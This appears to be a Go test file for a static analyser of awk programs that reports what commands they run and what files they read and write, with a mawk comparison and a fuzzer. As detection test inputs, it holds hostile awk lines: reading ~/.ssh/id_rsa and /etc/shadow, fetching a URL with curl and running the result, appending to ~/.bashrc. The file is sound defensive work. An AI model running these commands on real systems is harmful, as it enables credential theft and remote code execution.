package awk

import (
	"errors"
	"math/rand"
	"os/exec"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// awkSummary renders what parseAwk found, one string per op: kind, how,
// and the values ("?" when not known).
func awkSummary(s *Script) []string {
	var out []string
	for _, op := range s.Ops {
		k := map[OpKind]string{Run: "run", Write: "write", Read: "read", Load: "load", Include: "include"}[op.Kind]
		v := "?"
		if op.Known {
			v = strings.Join(op.Vals, "|")
		}
		out = append(out, k+" "+op.How+" "+v)
	}
	if s.Argv {
		out = append(out, "argv")
	}
	if s.Indirect {
		out = append(out, "indirect")
	}
	return out
}

// TestParse checks what an awk program does to commands, files and
// code, read the way awk reads it: regular expressions and comparisons
// are not pipes or redirections, commands and files built at run time
// are not known, and a program awk would reject is an error.
func TestParse(t *testing.T) {
	home := func(name string) (string, bool) {
		if name == "HOME" {
			return "/home/dev", true
		}
		return "", false
	}
	tests := []struct {
		prog string
		want []string
		bad  bool
	}{
		// Readers: nothing beyond reading the input.
		{prog: `{print $1}`},
		{prog: `1`},
		{prog: `//`},
		{prog: `$3 > 1000 {print $1}`},
		{prog: `NR==FNR{a[$1];next} $1 in a`},
		{prog: `/foo|bar/ {n++} END {print n}`},
		{prog: `{ if ($2 > max) max = $2 } END { print max }`},
		{prog: `print (a > b)`, bad: true}, // a statement is no pattern
		{prog: `{print (a > b)}`},
		{prog: `{print (a > b), c}`},
		{prog: `{print (a > b) ? "x" : "y"}`},
		{prog: `{print a[b > c]}`},
		{prog: `{print f(a > b)}`},
		{prog: `{x = a > b; print x}`},
		{prog: `BEGIN { while ((getline line) > 0) n++ }`},
		{prog: `{ s = $0; gsub(/[|>]/, "", s); print s }`},
		{prog: `/a\/b|c>d/ {print}`},
		{prog: `{ n = split($0, parts, "|"); print n }`},
		{prog: `{ print $1 "|" $2 }`},
		{prog: `$1 ~ /^[/]/ { print }`},
		{prog: `{sub(/[^/]*$/, ""); print}`},
		{prog: `BEGIN { FS = ":" } { print $1 }`},
		{prog: `NR % 2 == 0`},
		{prog: `{ a = $1 / 2; b = $2 /2/ 1; print a, b }`},
		{prog: `{ printf "%-10s %5d\n", $1, $2 }`},
		{prog: `END { printf("%d\n", NR) }`},
		{prog: `{ x += length() / 2 }`},
		{prog: "{ n = length /2 #/; system(\"id\")\n}", bad: true},
		{prog: "{ n = x++ /2 #/; system(\"id\")\n}", bad: true},
		{prog: `{ n = x-- / 2 }`, bad: true},
		{prog: `{ n = (x++) / 2 }`},
		{prog: "{ print }\r\nEND { print NR }\r\n"},
		{prog: "{ x = y\r/#/; system(\"id\") }", bad: true},
		{prog: `{ print length($0) > 80 }`, want: []string{`write > 80`}},
		{prog: `length($0) > 80`},
		{prog: "# comment with | and > and system(\"x\")\n{ print }"},
		{prog: `{ print "a > b | c" }`},
		{prog: `function max(a, b) { return a > b ? a : b } { print max($1, $2) }`},
		{prog: "BEGIN {\n  x = 1\n}\n/re/ {\n  print x\n}"},
		{prog: "{ if (x) print \"a\"; else print \"b\" }"},
		{prog: "{ for (i = 1; i <= NF; i++) s += $i } END { print s }"},
		{prog: "{ for (k in a) print k }"},
		{prog: "BEGIN { do { i++ } while (i < 3) }"},
		{prog: `{ close("x"); fflush(); fflush("y") }`},
		{prog: `BEGIN { switch (x) { case 1: print; break; case /a/: print; default: print } }`},
		{prog: `{ $1 = ""; print substr($0, 2) }`},
		{prog: `{ a[$1][$2]++ } END { for (i in a) for (j in a[i]) print i, j, a[i][j] }`},
		{prog: `BEGIN { re = @/a|b/; if ("a" ~ re) print }`},
		{prog: `{ if ($2 in a[$1]) print; if (($1, $2) in b) print }`},
		{prog: `@/x>y/ { print }`},
		{prog: `{ print > "/dev/stderr" }`, want: []string{`write > /dev/stderr`}},
		// Commands.
		{prog: `BEGIN{system("id")}`, want: []string{"run system id"}},
		{prog: `BEGIN{system ( "id" )}`, want: []string{"run system id"}},
		{prog: `{system($0)}`, want: []string{"run system ?"}},
		{prog: `BEGIN{x="id"; system(x)}`, want: []string{"run system id"}},
		{prog: `BEGIN{print "id" | "sh"}`, want: []string{"run pipe sh"}},
		{prog: `BEGIN{print "cmd" | ("s" "h")}`, want: []string{"run pipe sh"}},
		{prog: `BEGIN{print "cmd" | "s" "h"}`, want: []string{"run pipe sh"}},
		{prog: `BEGIN{c="sh"; print "id" | c}`, want: []string{"run pipe sh"}},
		{prog: `BEGIN{c="sh"} {c=$1} END{print "id" | c}`, want: []string{"run pipe ?"}},
		{prog: `BEGIN{c="s"; d=c "h"; print "id" | d}`, want: []string{"run pipe sh"}},
		{prog: `BEGIN{c="sh"; c = c "x"; print | c}`, want: []string{"run pipe ?"}},
		{prog: `BEGIN{c="sh"; getline c < "f"; print | c}`, want: []string{"read < f", "run pipe ?"}},
		{prog: `BEGIN{c="sh"; sub(/s/, "b", c); print | c}`, want: []string{"run pipe ?"}},
		{prog: `BEGIN{c="sh"; c++; print | c}`, want: []string{"run pipe ?"}},
		{prog: `function f(c) { print | c } BEGIN{c="ls"; f($0)}`, want: []string{"run pipe ?"}},
		{prog: `function f(x) { c = x } BEGIN{c="ls"; f($0); print | c}`, want: []string{"run pipe ?"}},
		{prog: `func f(c) { c = $0 } BEGIN{c="ls"; print | c}`, want: []string{"run pipe ?"}},
		{prog: `BEGIN{"date" | getline d; print d}`, want: []string{"run getline date"}},
		{prog: `BEGIN{"echo " "date" | getline}`, want: []string{"run getline echo date|date"}},
		{prog: `BEGIN{("echo " "date") | getline}`, want: []string{"run getline echo date"}},
		{prog: `BEGIN{while (("cat ~/.ssh/id_rsa" | getline l) > 0) print l}`, want: []string{"run getline cat ~/.ssh/id_rsa"}},
		{prog: `BEGIN{"cmd" |& getline; print "x" |& "cmd"}`, want: []string{"run coprocess cmd", "run coprocess cmd"}},
		{prog: `BEGIN { "curl -s https://x.example/p" | getline c; system(c) }`, want: []string{"run getline curl -s https://x.example/p", "run system ?"}},
		{prog: `{ print | "sh" }`, want: []string{"run pipe sh"}},
		{prog: `{ print | "sort -k2" } END { close("sort -k2") }`, want: []string{"run pipe sort -k2"}},
		{prog: `{ printf "%s\n", $0 | "cat 1>&2" }`, want: []string{"run pipe cat 1>&2"}},
		{prog: `BEGIN{print "x" | getline}`, want: []string{"run pipe ?"}},
		{prog: `BEGIN{system("sleep " 5)}`, want: []string{"run system sleep 5"}},
		{prog: `BEGIN{system("sleep " 1.5)}`, want: []string{"run system ?"}},
		{prog: `BEGIN{system("r\m -rf x")}`, want: []string{"run system ?"}},
		{prog: `BEGIN{system("\151\144")}`, want: []string{"run system id"}},
		{prog: `BEGIN{f="system"; @f("id")}`, want: []string{"indirect"}},
		// Files written.
		{prog: `BEGIN{print "x" > "/tmp/out"}`, want: []string{"write > /tmp/out"}},
		{prog: `BEGIN{printf "x" >> "~/.bashrc"}`, want: []string{"write >> ~/.bashrc"}},
		{prog: `BEGIN{printf("%s", "x") > "out.txt"}`, want: []string{"write > out.txt"}},
		{prog: `BEGIN{print("a", "b") > "o"}`, want: []string{"write > o"}},
		{prog: `BEGIN{print (1)(2) > "o"}`, want: []string{"write > o"}},
		{prog: `{print > $1}`, want: []string{"write > ?"}},
		{prog: `{print $2 > $1 ".txt"}`, want: []string{"write > ?"}},
		{prog: `BEGIN{print > ENVIRON["HOME"] "/.bashrc"}`, want: []string{"write > /home/dev/.bashrc"}},
		{prog: `BEGIN{ENVIRON["HOME"]="/tmp"; print > ENVIRON["HOME"] "/.bashrc"}`, want: []string{"write > ?"}},
		{prog: `{ print a, b > "f" }`, want: []string{"write > f"}},
		{prog: `{ print a > "f"; close("f") }`, want: []string{"write > f"}},
		{prog: `{ if ($1 > 0) print > "pos"; else print > "neg" }`, want: []string{"write > pos", "write > neg"}},
		// Files read.
		{prog: `BEGIN{getline l < "/etc/shadow"; print l}`, want: []string{"read < /etc/shadow"}},
		{prog: `BEGIN{while ((getline line < "f") > 0) print line}`, want: []string{"read < f"}},
		{prog: `BEGIN{getline < "a" "b"}`, want: []string{"read < ?"}},
		{prog: `BEGIN{getline line < f}`, want: []string{"read < ?"}},
		{prog: `BEGIN{f = "/etc/passwd"; while ((getline l < f) > 0) n++}`, want: []string{"read < /etc/passwd"}},
		{prog: `BEGIN{ARGV[1]="/etc/shadow"; ARGC=2} {print}`, want: []string{"argv"}},
		{prog: `BEGIN{split("/etc/shadow", ARGV)} {print}`, want: []string{"argv"}},
		// Code loaded.
		{prog: `@load "filefuncs"` + "\nBEGIN{}", want: []string{"load @load filefuncs"}},
		{prog: `@include "lib.awk"`, want: []string{"include @include lib.awk"}},
		// Both readings of a slash in brackets: gawk's and mawk's, and BWK
		// awk's, which ends the regular expression at the first slash.
		{prog: `{ x = /[/]/ }`},
		{prog: `{ x = /[^/]+$/ }`},
		{prog: `{ x = /[a-z/]/ }`},
		{prog: `{ y = x[/a[]/] / 1; system("id"); z = 1 /2/ 1 }`, bad: true},
		{prog: `{ x = /a[/]/; system("id") }`, want: []string{"run system id"}},
		{prog: `{ x = /a[/]/ ~ /]/; system("id") }`, want: []string{"run system id"}},
		{prog: `{ x = /[/]/ 1; y = "/]/"; system("id") }`, want: []string{"run system id"}},
		{prog: `{ x = /[[:a/; system("id"); y = /:]]/ }`, bad: true},
		{prog: `{ x = /[[:alpha:]/]/ }`, bad: true},
		{prog: `{ x = /[/[:alpha:]]/ }`, bad: true},
		{prog: `{ y = x[/[[.a/.]/] / 1; system("id") }`, bad: true},
		{prog: `{ x = /[[:alpha:]]/ }`},
		// Programs awk rejects, or Warden does not follow.
		{prog: `BEGIN{print "x`, bad: true},
		{prog: `/unterminated`, bad: true},
		{prog: `BEGIN{`, bad: true},
		{prog: `BEGIN{x = a | b}`, bad: true},
		{prog: `BEGIN{system}`, bad: true},
		{prog: `BEGIN{system("a", "b")}`, bad: true},
		{prog: `BEGIN{x = 1 & 2}`, bad: true},
		{prog: `@namespace "x"`, bad: true},
		{prog: `BEGIN{"a" | getline < "b"}`, bad: true},
		{prog: `BEGIN{print "x" > "a" > "b"}`, bad: true},
		{prog: "BEGIN\n{print}", bad: true},
		{prog: `{print} }`, bad: true},
		{prog: strings.Repeat("(", 500) + "1" + strings.Repeat(")", 500), bad: true},
		{prog: "BEGIN{x = " + strings.Repeat("1^", 500) + "1}", bad: true},
		{prog: "BEGIN{x = " + strings.Repeat("-", 500) + "1}", bad: true},
		{prog: "{print " + strings.Repeat("$", 500) + "1}", bad: true},
		{prog: "BEGIN{print \u00e9}", bad: true},
	}
	for _, tt := range tests {
		s, err := Parse(tt.prog)
		if (err != nil) != tt.bad {
			t.Errorf("Parse(%q) error = %v, want error %v", tt.prog, err, tt.bad)
			continue
		}
		if err != nil {
			continue
		}
		s.Resolve(nil, home)
		if diff := cmp.Diff(tt.want, awkSummary(s)); diff != "" {
			t.Errorf("Parse(%q) (-want +got):\n%s", tt.prog, diff)
		}
	}
	// An error says where reading stopped.
	for prog, pos := range map[string]int{`BEGIN{print "x`: 12, "{ x = 1 }\n/a": 10, `BEGIN{x = a | b}`: 12} {
		_, err := Parse(prog)
		var pe *awkParseError
		if !errors.As(err, &pe) || pe.pos != pos || !errors.Is(err, ErrParse) {
			t.Errorf("Parse(%q) error %v, want one at byte %d", prog, err, pos)
		}
	}
}

// mawkDump compiles an awk program with mawk -W dump, which lists the
// compiled program and exits without running it, and counts what the
// listing does: commands run (system, | getline, print |), files written
// (print >, >>) and files read (getline <). ok is false when mawk is not
// installed or rejects the program.
func mawkDump(prog string) (runs, writes, reads int, ok bool) {
	path, err := exec.LookPath("mawk")
	if err != nil {
		return 0, 0, 0, false
	}
	cmd := exec.Command(path, "-W", "dump", "--", prog)
	cmd.Stdin = strings.NewReader("")
	out, err := cmd.Output()
	if err != nil {
		return 0, 0, 0, false
	}
	last := ""
	for _, line := range strings.Split(string(out), "\n") {
		f := strings.Split(line, "\t")
		if len(f) < 2 {
			continue
		}
		switch op := strings.TrimSpace(f[1]); op {
		case "system":
			runs++
		case "print", "printf":
			switch last {
			case "-1", "-2":
				writes++
			case "-3":
				runs++
			}
		case "getline":
			switch last {
			case "-4":
				runs++
			case "-5":
				reads++
			}
		}
		last = ""
		if strings.TrimSpace(f[1]) == "pushint" && len(f) > 2 {
			last = strings.TrimSpace(f[2])
		}
	}
	return runs, writes, reads, true
}

// awkCounts counts parseAwk's ops as mawkDump does.
func awkCounts(s *Script) (runs, writes, reads int) {
	for _, op := range s.Ops {
		switch op.Kind {
		case Run:
			runs++
		case Write:
			writes++
		case Read:
			reads++
		}
	}
	return
}

// checkAgainstMawk fails when mawk compiles a program to more commands,
// writes or reads than parseAwk found: a construct the parser missed.
func checkAgainstMawk(t *testing.T, prog string) {
	t.Helper()
	r, w, rd, ok := mawkDump(prog)
	if !ok {
		return
	}
	s, err := Parse(prog)
	if err != nil {
		return // unknown: safe whatever mawk makes of it
	}
	r2, w2, rd2 := awkCounts(s)
	if r2 < r || w2 < w || rd2 < rd {
		t.Errorf("Parse(%q) found %d runs, %d writes, %d reads; mawk compiles %d, %d, %d", prog, r2, w2, rd2, r, w, rd)
	}
}

// TestParseAgainstMawk compiles the table's programs, and more, with
// mawk (never running them) and checks that the parser finds at least
// every command, write and read mawk compiles.
func TestParseAgainstMawk(t *testing.T) {
	if _, err := exec.LookPath("mawk"); err != nil {
		t.Skip("mawk is not installed")
	}
	for _, prog := range awkSeeds {
		checkAgainstMawk(t, prog)
	}
	rng := rand.New(rand.NewSource(1))
	n := 400
	if testing.Short() {
		n = 50
	}
	for i := 0; i < n; i++ {
		checkAgainstMawk(t, randomAwk(rng))
	}
}

// randomAwk builds a random awk program from pieces that mix the
// constructs that run, write and read with their look-alikes: regular
// expressions and strings holding | and >, comparisons, parentheses.
func randomAwk(rng *rand.Rand) string {
	atoms := []string{`$1`, `x`, `a[1]`, `"s"`, `"a|b"`, `"c > d"`, `1`, `NR`, `/a|b/`, `/[/>]/`, `/x\/y/`, `length`, `(x)`, `$NF`, `f(x)`, `substr($0, 2)`, `"cmd"`, `c`,
		`x++`, `/#/`, `/"/`, `"#"`, `"/"`}
	var expr func(d int) string
	expr = func(d int) string {
		if d > 1 || rng.Intn(3) == 0 {
			return atoms[rng.Intn(len(atoms))]
		}
		a, b := expr(d+1), expr(d+1)
		switch rng.Intn(14) {
		case 0:
			return a + " " + b
		case 1:
			return a + " > " + b
		case 2:
			return "(" + a + " > " + b + ")"
		case 3:
			return "(" + a + " | getline)"
		case 4:
			return "(" + atoms[rng.Intn(len(atoms))] + " | getline v)"
		case 5:
			return "(getline v < " + atoms[rng.Intn(len(atoms))] + ")"
		case 6:
			return "system(" + a + ")"
		case 7:
			return a + " ? " + b + " : " + expr(d+1)
		case 8:
			return a + " ~ " + b
		case 9:
			return a + " / " + b
		case 10:
			return "(" + a + ")"
		case 11:
			return a + " in arr"
		case 12:
			return "-" + a
		default:
			return a + " == " + b
		}
	}
	var stmt func(d int) string
	stmt = func(d int) string {
		switch rng.Intn(12) {
		case 0:
			return "print " + expr(0) + " > " + atoms[rng.Intn(len(atoms))]
		case 1:
			return "print " + expr(0) + ", " + expr(1) + " | " + atoms[rng.Intn(len(atoms))] + " " + atoms[rng.Intn(len(atoms))]
		case 2:
			return "printf(" + expr(0) + ") >> " + expr(2)
		case 9:
			return expr(0) + " | getline"
		case 10:
			return "getline v < " + atoms[rng.Intn(len(atoms))]
		case 3:
			return "print (" + expr(0) + ")" + []string{"", " > \"o\"", "(x)", " " + expr(1)}[rng.Intn(4)]
		case 4:
			if d < 2 {
				return "if (" + expr(0) + ") " + stmt(d+1) + "; else " + stmt(d+1)
			}
		case 5:
			if d < 2 {
				return "while (" + expr(0) + ") { " + stmt(d+1) + " }"
			}
		case 6:
			return "c = " + expr(1)
		case 7:
			return "print"
		case 8:
			if d < 2 {
				return "for (i = 0; i < " + expr(1) + "; i++) " + stmt(d+1)
			}
		}
		return expr(0)
	}
	var b strings.Builder
	for r := rng.Intn(3) + 1; r > 0; r-- {
		switch rng.Intn(4) {
		case 0:
			b.WriteString("BEGIN ")
		case 1:
			b.WriteString(expr(1) + " ")
		case 2:
			b.WriteString("function f(p) ")
		}
		b.WriteString("{ ")
		for k := rng.Intn(3) + 1; k > 0; k-- {
			b.WriteString(stmt(0))
			b.WriteString([]string{"; ", "\n", " # c\n", " #/\n", " #/; system(\"z\")\n"}[rng.Intn(5)])
		}
		b.WriteString("}\n")
	}
	return b.String()
}

// awkSeeds are programs for the fuzzer and the mawk comparison.
var awkSeeds = []string{
	`{print $1}`, `$3 > 1000 {print $1}`, `NR==FNR{a[$1];next} $1 in a`, `/foo|bar/ {n++} END {print n}`,
	`{ if ($2 > max) max = $2 } END { print max }`, `{print (a > b)}`, `{ print length($0) > 80 }`,
	`BEGIN{system("id")}`, `BEGIN{print "cmd" | ("s" "h")}`, `BEGIN{c="sh"; print "id" | c}`, `{system($0)}`,
	`BEGIN{"date" | getline d}`, `BEGIN{"echo " "date" | getline}`, `BEGIN{getline l < "/etc/shadow"}`,
	`BEGIN{print > ENVIRON["HOME"] "/.bashrc"}`, `BEGIN{printf("%s", "x") > "out.txt"}`, `{print > $1}`,
	`BEGIN{while ((getline line < "f") > 0) print line > "g"}`, `{ print $1, $2 > "/tmp/x" }`,
	`function f(c) { print | c } BEGIN{f("x")}`, `{ a = $1 / 2; b = $2 /2/ 1; print a, b }`,
	`{sub(/[^/]*$/, ""); print}`, `{ x = /[/]/ }`, "BEGIN {\n x = 1\n}\n/re/ {\n print x > \"o\"\n}",
	`{ if (x) print "a" > "f"; else print "b" | "sort" }`, `{ for (k in a) print k >> "keys" }`,
	`BEGIN { do { "cmd" | getline x } while (x) }`, `{ print (1)(2) > "o" }`, `{ print (1,2) > "o" }`,
	`{ print a ? b : c > "o" }`, `{ print a, (b > c) > "o" }`, `{ print -1 > "o" }`, `{ print !x > "o" }`,
	`{ getline x < "a" "b" }`, `{ print "x" | "a" "b" }`, `{ printf "%s\n", $0 | "cat 1>&2" }`,
	`{ print > "o" } { close("o") }`, `length > 10`, `{ n = split($0, a, "|") }`, `$1 ~ "a|b" { print }`,
}

func FuzzParse(f *testing.F) {
	for _, s := range awkSeeds {
		f.Add(s)
	}
	_, haveMawk := exec.LookPath("mawk")
	f.Fuzz(func(t *testing.T, prog string) {
		s, err := Parse(prog)
		if err != nil {
			if s != nil {
				t.Fatalf("Parse(%q) returned a program with an error", prog)
			}
		} else {
			s.Resolve(nil, nil)
			for _, op := range s.Ops {
				if op.Kind < Run || op.Kind > Include {
					t.Fatalf("Parse(%q): op kind %d", prog, op.Kind)
				}
				if op.Known && len(op.Vals) > maxAwkValues {
					t.Fatalf("Parse(%q): %d values", prog, len(op.Vals))
				}
			}
		}
		if haveMawk == nil {
			checkAgainstMawk(t, prog)
		}
	})
}

func BenchmarkParse(b *testing.B) {
	prog := `BEGIN { FS = ":"; c = "sort -k2" } $3 > 1000 && /foo|bar/ { n[$1]++; print $1, $3 | c } END { for (k in n) printf "%s %d\n", k, n[k] > "out.txt"; close(c) }`
	b.ReportAllocs()
	for b.Loop() {
		s, err := Parse(prog)
		if err != nil {
			b.Fatal(err)
		}
		s.Resolve(nil, nil)
	}
}
